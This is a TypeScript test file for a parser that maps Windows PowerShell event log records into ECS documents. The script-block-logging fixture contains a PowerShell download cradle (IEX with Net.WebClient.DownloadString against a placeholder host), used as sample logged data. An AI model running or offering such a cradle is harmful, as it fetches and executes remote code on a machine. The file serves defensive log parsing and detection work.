import assert from 'node:assert/strict'
import { describe, test } from 'node:test'
import { parseEventXmlText } from '../xml/parse.ts'
import type { EcsDocument } from './index.ts'
import { mapWindowsEvent } from './index.ts'
import { scriptBlockStats } from './powershell-entropy.ts'

const SID = 'S-1-5-21-1350058589-2282154016-2764056528-1000'

function esc(value: string): string {
  return value.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;')
}

function parse(xml: string): EcsDocument {
  const item = [...parseEventXmlText(xml, 'powershell.xml')][0]
  if (item?.kind !== 'event') throw new Error('fixture does not parse')

  return mapWindowsEvent(item.event)
}

/** An event of Microsoft-Windows-PowerShell/Operational. */
function operational(
  id: number,
  level: number,
  task: number,
  data: Record<string, string>,
): EcsDocument {
  const fields = Object.entries(data)
    .map(([name, value]) => `<Data Name='${name}'>${esc(value)}</Data>`)
    .join('')

  return parse(
    `<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System>` +
      `<Provider Name='Microsoft-Windows-PowerShell' Guid='{a0c1853b-5c40-4b15-8766-3cf1c58f985a}'/>` +
      `<EventID>${id}</EventID><Version>1</Version><Level>${level}</Level><Task>${task}</Task>` +
      `<Opcode>${id === 4103 ? 20 : 15}</Opcode><Keywords>0x0</Keywords>` +
      `<TimeCreated SystemTime='2020-05-15T08:11:47.897949500Z'/><EventRecordID>3885</EventRecordID>` +
      `<Correlation ActivityID='{1aca0717-2acb-0002-c208-ca1acb2ad601}'/>` +
      `<Execution ProcessID='3984' ThreadID='3616'/><Channel>Microsoft-Windows-PowerShell/Operational</Channel>` +
      `<Computer>vagrant</Computer><Security UserID='${SID}'/></System><EventData>${fields}</EventData></Event>`,
  )
}

/** An event of the classic Windows PowerShell log: three unnamed Data items. */
function classic(id: number, task: number, data: readonly string[]): EcsDocument {
  const fields = data
    .map((value) => (value === '' ? '<Data/>' : `<Data>${esc(value)}</Data>`))
    .join('')

  return parse(
    `<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System>` +
      `<Provider Name='PowerShell'/><EventID Qualifiers='0'>${id}</EventID><Level>4</Level>` +
      `<Task>${task}</Task><Keywords>0x80000000000000</Keywords>` +
      `<TimeCreated SystemTime='2020-05-13T13:21:43.183180900Z'/><EventRecordID>1089</EventRecordID>` +
      `<Channel>Windows PowerShell</Channel><Computer>vagrant</Computer><Security/></System>` +
      `<EventData>${fields}</EventData></Event>`,
  )
}

function get(doc: EcsDocument, path: string): unknown {
  let value: unknown = doc
  for (const key of path.split('.')) {
    if (typeof value !== 'object' || value === null || Array.isArray(value)) return undefined
    value = (value as Record<string, unknown>)[key]
  }

  return value
}

function assertFields(doc: EcsDocument, expected: Record<string, unknown>): void {
  for (const [path, value] of Object.entries(expected))
    assert.deepEqual(get(doc, path), value, path)
}

const SIGNED_SCRIPT = [
  '  Write-Host "hello"',
  '# SIG # Begin signature block',
  '# MIIbDQYJKoZIhvcNAQcCoIIa',
  '# gjcCAQSgWzBZMDQGCisGAQQB',
  '# SIG # End signature block',
  '',
].join('\n')

describe('mapWindowsEvent for Microsoft-Windows-PowerShell/Operational', () => {
  test('maps 4104 script block logging', () => {
    const doc = operational(4104, 5, 2, {
      MessageNumber: '1',
      MessageTotal: '3',
      ScriptBlockText: '\n  IEX (New-Object Net.WebClient).DownloadString("http://x/a.ps1")  \n',
      ScriptBlockId: 'f5521cbd-656e-4296-b74d-9ffb4eec23b0',
      Path: 'C:\\Users\\vagrant\\Desktop\\patata.ps1',
    })
    assertFields(doc, {
      '@timestamp': '2020-05-15T08:11:47.897Z',
      event: {
        kind: 'event',
        code: '4104',
        provider: 'Microsoft-Windows-PowerShell',
        action: 'Execute a Remote Command',
        module: 'windows',
        dataset: 'windows.powershell_operational',
        category: ['process'],
        type: ['info'],
      },
      'log.level': 'verbose',
      powershell: {
        sequence: 1,
        total: 3,
        file: {
          script_block_id: 'f5521cbd-656e-4296-b74d-9ffb4eec23b0',
          script_block_text: 'IEX (New-Object Net.WebClient).DownloadString("http://x/a.ps1")',
          // the statistics' own tests are in powershell-entropy.test.ts
          ...scriptBlockStats('IEX (New-Object Net.WebClient).DownloadString("http://x/a.ps1")'),
        },
      },
      file: {
        path: 'C:\\Users\\vagrant\\Desktop\\patata.ps1',
        name: 'patata.ps1',
        directory: 'C:\\Users\\vagrant\\Desktop',
        extension: 'ps1',
      },
      user: { id: SID },
      'winlog.opcode': 'On create calls',
      'winlog.task': 'Execute a Remote Command',
      'winlog.activity_id': '{1aca0717-2acb-0002-c208-ca1acb2ad601}',
      'winlog.record_id': '3885',
      'winlog.event_data': undefined,
    })
  })

  test('extracts a leading signature block from 4104 text', () => {
    const text = `${SIGNED_SCRIPT.slice(SIGNED_SCRIPT.indexOf('#'))}\n.\\patata.ps1`
    const doc = operational(4104, 5, 2, { ScriptBlockText: text, ScriptBlockId: 'id' })
    assert.equal(
      get(doc, 'powershell.file.script_block_signature'),
      'MIIbDQYJKoZIhvcNAQcCoIIagjcCAQSgWzBZMDQGCisGAQQB\n',
    )
    assert.equal(get(doc, 'powershell.file.script_block_text'), text.trim())
  })

  test('keeps a trailing signature block in the text only', () => {
    const doc = operational(4104, 5, 2, { ScriptBlockText: SIGNED_SCRIPT, ScriptBlockId: 'id' })
    assert.equal(get(doc, 'powershell.file.script_block_signature'), undefined)
    assert.equal(get(doc, 'powershell.file.script_block_text'), SIGNED_SCRIPT.trim())
  })

  test('maps 4103 module logging with ContextInfo and Payload (integration test values)', () => {
    const context = [
      '        Severity = Informational',
      '        Host Name = ServerRemoteHost',
      '        Host Version = 1.0.0.0',
      '        Host ID = ed57761b-ba0f-4d11-87d9-fac33820d20e',
      '        Host Application = C:\\Windows\\system32\\wsmprovhost.exe -Embedding',
      '        Engine Version = 5.1.17763.1007',
      '        Runspace ID = 0729459a-8646-4176-8b02-024421a9632e',
      '        Pipeline ID = 1',
      '        Command Name = cmd.exe',
      '        Command Type = Application',
      '        Script Name =',
      '        Command Path = C:\\Windows\\system32\\cmd.exe',
      '        Sequence Number = 34',
      '        User = VAGRANT\\vagrant',
      '        Connected User = VAGRANT\\vagrant',
      '        Shell ID = Microsoft.PowerShell',
      '',
    ].join('\n')
    const payload = [
      'CommandInvocation(cmd.exe): "cmd.exe"',
      'CommandInvocation(Out-Null): "Out-Null"',
      'ParameterBinding(Out-Null): name="InputObject"; value="symbolic link created for C:\\vagrant <<===>> \\\\vboxsvr\\vagrant"',
      '',
    ].join('\n')
    const doc = operational(4103, 4, 106, { ContextInfo: context, UserData: '', Payload: payload })
    assertFields(doc, {
      'event.action': 'Executing Pipeline',
      'event.sequence': 34,
      'event.type': ['info'],
      'winlog.opcode': 'To be used when operation is just executing a method',
      'destination.user': { domain: 'VAGRANT', name: 'vagrant' },
      'source.user': { domain: 'VAGRANT', name: 'vagrant' },
      user: { domain: 'VAGRANT', id: SID, name: 'vagrant' },
      'related.user': ['vagrant'],
      process: {
        args: ['C:\\Windows\\system32\\wsmprovhost.exe', '-Embedding'],
        args_count: 2,
        command_line: 'C:\\Windows\\system32\\wsmprovhost.exe -Embedding',
        entity_id: 'ed57761b-ba0f-4d11-87d9-fac33820d20e',
        title: 'ServerRemoteHost',
      },
      powershell: {
        command: {
          invocation_details: [
            { related_command: 'cmd.exe', type: 'CommandInvocation', value: '"cmd.exe"' },
            { related_command: 'Out-Null', type: 'CommandInvocation', value: '"Out-Null"' },
            {
              name: '"InputObject"',
              related_command: 'Out-Null',
              type: 'ParameterBinding',
              value: '"symbolic link created for C:\\vagrant <<===>> \\\\vboxsvr\\vagrant"',
            },
          ],
          name: 'cmd.exe',
          path: 'C:\\Windows\\system32\\cmd.exe',
          type: 'Application',
        },
        engine: { version: '5.1.17763.1007' },
        id: 'Microsoft.PowerShell',
        pipeline_id: '1',
        process: { executable_version: '1.0.0.0' },
        runspace_id: '0729459a-8646-4176-8b02-024421a9632e',
      },
      file: undefined,
      'winlog.event_data': undefined,
    })
  })

  const lifecycle: [number, number, string][] = [
    [4105, 102, 'start'],
    [4106, 103, 'end'],
  ]
  for (const [id, task, type] of lifecycle) {
    test(`maps ${id} script block ${type}`, () => {
      const doc = operational(id, 5, task, {
        ScriptBlockId: '4c487c13-46f7-4485-925b-34855c7e873c',
        RunspaceId: '3f1a9181-0523-4645-a42c-2c1868c39332',
      })
      assertFields(doc, {
        'event.category': ['process'],
        'event.type': [type],
        'event.action': undefined,
        powershell: {
          file: { script_block_id: '4c487c13-46f7-4485-925b-34855c7e873c' },
          runspace_id: '3f1a9181-0523-4645-a42c-2c1868c39332',
        },
        user: { id: SID },
        'winlog.event_data': undefined,
      })
    })
  }
})

describe('mapWindowsEvent for Windows PowerShell (classic)', () => {
  const blob = (lines: string[]) => lines.map((l) => (l === '' ? '' : `\t${l}`)).join('\n')

  test('maps 600 provider lifecycle (integration test values)', () => {
    const doc = classic(600, 6, [
      'Certificate',
      'Started',
      blob([
        'ProviderName=Certificate',
        'NewProviderState=Started',
        '',
        'SequenceNumber=35',
        '',
        'HostName=Windows PowerShell ISE Host',
        'HostVersion=5.1.17763.1007',
        'HostId=86edc16f-6943-469e-8bd8-ef1857080206',
        'HostApplication=C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell_ise.exe C:\\Users\\vagrant\\Desktop\\lateral.ps1',
        'EngineVersion=5.1.17763.1007',
        'RunspaceId=9d21da0b-e402-40e1-92ff-98c5ab1137a9',
        'PipelineId=15',
        'CommandName=',
        'CommandType=',
        'ScriptName=',
        'CommandPath=',
        'CommandLine=',
      ]),
    ])
    assertFields(doc, {
      event: {
        kind: 'event',
        code: '600',
        provider: 'PowerShell',
        action: 'Provider Lifecycle',
        module: 'windows',
        dataset: 'windows.powershell',
        category: ['process'],
        type: ['info'],
        sequence: 35,
      },
      powershell: {
        engine: { version: '5.1.17763.1007' },
        pipeline_id: '15',
        process: { executable_version: '5.1.17763.1007' },
        provider: { name: 'Certificate', new_state: 'Started' },
        runspace_id: '9d21da0b-e402-40e1-92ff-98c5ab1137a9',
      },
      process: {
        args: [
          'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell_ise.exe',
          'C:\\Users\\vagrant\\Desktop\\lateral.ps1',
        ],
        args_count: 2,
        command_line:
          'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell_ise.exe C:\\Users\\vagrant\\Desktop\\lateral.ps1',
        entity_id: '86edc16f-6943-469e-8bd8-ef1857080206',
        title: 'Windows PowerShell ISE Host',
      },
      winlog: {
        channel: 'Windows PowerShell',
        computer_name: 'vagrant',
        event_id: '600',
        keywords: ['Classic'],
        provider_name: 'PowerShell',
        record_id: '1089',
        task: 'Provider Lifecycle',
      },
    })
  })

  const engine: [number, string][] = [
    [400, 'start'],
    [403, 'end'],
  ]
  for (const [id, type] of engine) {
    test(`maps ${id} engine lifecycle`, () => {
      const doc = classic(id, 4, [
        id === 400 ? 'Available' : 'Stopped',
        id === 400 ? 'None' : 'Available',
        blob([
          `NewEngineState=${id === 400 ? 'Available' : 'Stopped'}`,
          `PreviousEngineState=${id === 400 ? 'None' : 'Available'}`,
          '',
          'SequenceNumber=13',
          '',
          'HostName=ConsoleHost',
          'HostVersion=5.1.17763.1007',
          'HostId=83c6a631-910d-4530-bec2-18b2d0fc380a',
          "HostApplication=C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -noexit -command 'C:\\Gopath\\src'",
          'EngineVersion=5.1.17763.1007',
          'RunspaceId=056a5045-a7bb-49c6-9a9d-2ea95acea751',
          'PipelineId=',
          'CommandName=',
        ]),
      ])
      assertFields(doc, {
        'event.type': [type],
        'event.action': 'Engine Lifecycle',
        'event.sequence': 13,
        'powershell.engine': {
          new_state: id === 400 ? 'Available' : 'Stopped',
          previous_state: id === 400 ? 'None' : 'Available',
          version: '5.1.17763.1007',
        },
        'process.args': [
          'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
          '-noexit',
          '-command',
          "'C:\\Gopath\\src'",
        ],
        'process.args_count': 4,
        'process.title': 'ConsoleHost',
        'winlog.event_data': undefined,
      })
    })
  }

  test('maps 800 pipeline execution details (integration test values)', () => {
    const doc = classic(800, 8, [
      '        Add-Type -AssemblyName System.IO.Compression.FileSystem\n',
      blob([
        'DetailSequence=1',
        'DetailTotal=1',
        '',
        'SequenceNumber=17',
        '',
        'UserId=VAGRANT-2019\\vagrant',
        'HostName=ConsoleHost',
        'HostVersion=5.1.17763.1007',
        'HostId=ac3c99ce-7983-4996-807e-6a689eaba50b',
        "HostApplication=powershell -executionpolicy bypass & { if (Test-Path variable:global:ProgressPreference){set-variable -name variable:global:ProgressPreference -value 'SilentlyContinue'};. c:/Windows/Temp/packer-ps-env-vars-5e5637dd-15a9-73e0-889a-c01f541a8bc6.ps1; &'c:/Windows/Temp/script-5e5637dd-5626-019d-027a-02e78baaacc9.ps1'; exit $LastExitCode }",
        'EngineVersion=5.1.17763.1007',
        'RunspaceId=6a447a2c-693e-4d41-948d-129b455b2569',
        'PipelineId=1',
        'ScriptName=C:\\Windows\\system32\\WindowsPowerShell\\v1.0\\Modules\\Microsoft.PowerShell.Archive\\Microsoft.PowerShell.Archive.psm1',
        'CommandLine=        Add-Type -AssemblyName System.IO.Compression.FileSystem\n',
      ]),
      'CommandInvocation(Add-Type): "Add-Type"\nParameterBinding(Add-Type): name="AssemblyName"; value="System.IO.Compression.FileSystem"\n',
    ])
    assertFields(doc, {
      'event.sequence': 17,
      'event.action': 'Pipeline Execution Details',
      file: {
        directory:
          'C:\\Windows\\system32\\WindowsPowerShell\\v1.0\\Modules\\Microsoft.PowerShell.Archive',
        extension: 'psm1',
        name: 'Microsoft.PowerShell.Archive.psm1',
        path: 'C:\\Windows\\system32\\WindowsPowerShell\\v1.0\\Modules\\Microsoft.PowerShell.Archive\\Microsoft.PowerShell.Archive.psm1',
      },
      powershell: {
        command: {
          invocation_details: [
            { related_command: 'Add-Type', type: 'CommandInvocation', value: '"Add-Type"' },
            {
              name: '"AssemblyName"',
              related_command: 'Add-Type',
              type: 'ParameterBinding',
              value: '"System.IO.Compression.FileSystem"',
            },
          ],
          value: '        Add-Type -AssemblyName System.IO.Compression.FileSystem',
        },
        engine: { version: '5.1.17763.1007' },
        pipeline_id: '1',
        process: { executable_version: '5.1.17763.1007' },
        runspace_id: '6a447a2c-693e-4d41-948d-129b455b2569',
        sequence: 1,
        total: 1,
      },
      'process.args': [
        'powershell',
        '-executionpolicy',
        'bypass',
        '&',
        '{',
        'if',
        '(Test-Path',
        'variable:global:ProgressPreference){set-variable',
        '-name',
        'variable:global:ProgressPreference',
        '-value',
        "'SilentlyContinue'};.",
        'c:/Windows/Temp/packer-ps-env-vars-5e5637dd-15a9-73e0-889a-c01f541a8bc6.ps1;',
        "&'c:/Windows/Temp/script-5e5637dd-5626-019d-027a-02e78baaacc9.ps1';",
        'exit',
        '$LastExitCode',
        '}',
      ],
      'process.args_count': 17,
      'process.entity_id': 'ac3c99ce-7983-4996-807e-6a689eaba50b',
      'process.title': 'ConsoleHost',
      'related.user': ['vagrant'],
      user: { domain: 'VAGRANT-2019', name: 'vagrant' },
      'winlog.event_data': undefined,
    })
  })

  test('keeps multi-line values in the 4xx context blob', () => {
    const doc = classic(403, 4, [
      'Stopped',
      'Available',
      '\tNewEngineState=Stopped\n\tHostApplication=a.exe -c "x=1\n  y = 2"\n\tEngineVersion=5.1',
    ])
    assert.equal(get(doc, 'process.command_line'), 'a.exe -c "x=1\n  y = 2"')
    assert.equal(get(doc, 'powershell.engine.version'), '5.1')
  })
})
